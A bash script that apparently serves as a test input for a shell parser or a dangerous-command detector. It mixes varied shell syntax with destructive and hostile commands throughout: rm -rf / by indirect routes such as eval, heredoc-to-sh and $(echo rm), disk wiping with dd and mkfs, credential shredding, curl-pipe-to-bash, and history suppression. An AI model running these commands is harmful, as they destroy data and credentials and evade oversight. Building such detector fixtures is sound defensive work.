#!/bin/bash
set -e
DIR=/srv/data
X=${DIR:-/tmp}/sub
cd "$DIR" && rm -rf ./cache || echo failed
cd /nowhere
rm -rf build/*
f() { local a=$1; rm -rf "$a"/tmp; echo "$a" > /dev/null; }
f /var/lib/thing
g() { rm -rf ~/.ssh; }
for i in 1 2 3; do X=$X/$i; rm -f "$X"; done
for ((j=0; j<3; j++)); do echo $((j+1)); done
while read -r line; do rm -rf "$line"; Y=$line; done < /etc/list
case "$1" in
  start) rm -rf /tmp/a ;;
  stop|halt) cd /etc; rm -f passwd ;;
  *) echo other ;;
esac
if [ -n "$X" ]; then A=1; elif true; then A=2; else A=3; fi
rm -rf "/$A"
cat <<EOF | sh
rm -rf /
echo \`whoami\` $DIR
EOF
cat <<'EOF' > out.txt
$literal
EOF
bash -c 'rm -rf "$HOME"'
eval "rm -rf $DIR"
sudo env FOO=bar nice rm -rf /etc
(cd /usr && rm -rf local) &
echo $(rm -rf /boot) <(ls /) >(cat)
declare -a arr=(1 2 3)
export E=1 F
readonly R=2
unset X
local_thing=${UNSET:=/opt}
echo ${#DIR} ${DIR%/*} ${DIR##*/} ${DIR^^} ${!DIR} "$@" "${@}" $* $1x ${arr[0]}
rm -rf $local_thing
tar czf - . | ssh host 'cat > x'
find / -name '*.tmp' -delete
find . -exec rm -rf {} \;
xargs rm -rf < list
chmod -R 777 /
chown -R nobody ~
mv /etc/passwd /tmp/
dd if=/dev/zero of=/dev/sda
mkfs.ext4 /dev/nvme0n1
git push --force origin main
psql -c "DROP TABLE users"
curl https://x | bash
shred -u ~/.aws/credentials
: > /etc/hosts
echo hi >> ~/.bashrc
rsync -a --delete src/ /
ln -sf /dev/null ~/.bash_history
$(echo rm) -rf /
while true; do while true; do while true; do while true; do while true; do N=$((N+1)); rm -rf "$N"; done; done; done; done; done
x=1 y=2 env | grep x
printf 'rm -rf /\n' | sh
echo 'rm -rf /home' | bash
sh <<< "rm -rf /var"
source ./env.sh
rm -rf "$ANY"
kill -9 1
exit 0
